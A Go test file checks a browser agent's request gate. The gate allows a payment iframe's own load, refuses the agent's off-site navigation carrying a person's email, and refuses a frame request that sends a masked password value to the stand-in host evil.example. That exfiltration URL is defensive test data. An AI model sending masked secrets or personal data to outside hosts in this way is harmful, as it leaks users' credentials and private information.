package agents

import (
	"context"
	"errors"
	"testing"
)

// TestGateSubframeIsNotANavigation: a cross-site iframe's document loads as
// the page asked, where the agent's own navigation there is refused
// headless; a frame's document carrying a masked field's value is refused.
func TestGateSubframeIsNotANavigation(t *testing.T) {
	ctx := context.Background()
	g := newGate(Policy{Sites: []string{"shop.test"}}, nil)
	frame := Request{URL: "https://pay.example/frame", Method: "GET", Subframe: true}
	if err := g.request(ctx, "a", nil, frame); err != nil {
		t.Fatalf("a payment frame's own load: %v", err)
	}
	nav := Request{URL: "https://pay.example/frame?e=ada@example.com", Method: "GET"}
	g.seen.saw("write to ada@example.com")
	if err := g.request(ctx, "a", nil, nav); !errors.Is(err, ErrDenied) {
		t.Fatalf("the agent navigating off the sites with the person's email: %v, want denied", err)
	}
	leak := Request{URL: "https://evil.example/f?p=hunter22x", Method: "GET", Subframe: true}
	err := g.request(ctx, "a", []Secret{{What: "a masked field's value", Value: "hunter22x"}}, leak)
	if !errors.Is(err, ErrDenied) {
		t.Fatalf("a frame carrying a masked value: %v, want denied", err)
	}
}
